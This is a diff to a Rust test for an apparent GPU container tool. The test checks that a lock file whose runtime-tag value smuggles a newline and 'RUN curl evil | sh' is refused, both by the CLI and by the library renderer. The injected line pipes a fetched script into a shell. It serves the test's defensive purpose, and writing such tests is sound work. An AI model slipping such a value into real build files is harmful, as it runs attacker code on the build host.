@@ -369,9 +369,18 @@ fn unsafe_lock_values_fail_the_render_and_write_nothing() {
             "runtime-tag = \"12.4.1-runtime-ubuntu22.04\\nRUN curl evil | sh\"",
         );
     assert!(text.contains("RUN curl evil"));
-    std::fs::write(dir.join("gpustack.lock"), text).unwrap();
+    std::fs::write(dir.join("gpustack.lock"), &text).unwrap();
+    // The CLI refuses the hand-edited lock before rendering (its base layer hash no longer
+    // matches) ...
     let out = run_in(&dir, &["gen", "docker"]);
     assert_eq!(out.code, 2, "{}", out.stderr);
-    assert!(out.stderr.contains("not a plain word"), "{}", out.stderr);
+    assert!(out.stderr.contains("was edited by hand"), "{}", out.stderr);
     assert!(!dir.join("out").exists());
+    // ... and the renderer refuses the value itself, for a library caller that builds or
+    // edits a lock in memory.
+    let lock = gpustack::Lock::parse("gpustack.lock", &text).unwrap();
+    let err = gpustack::plan::generate(&lock, gpustack::plan::Target::Docker)
+        .unwrap_err()
+        .to_string();
+    assert!(err.contains("not a plain word"), "{err}");
 }
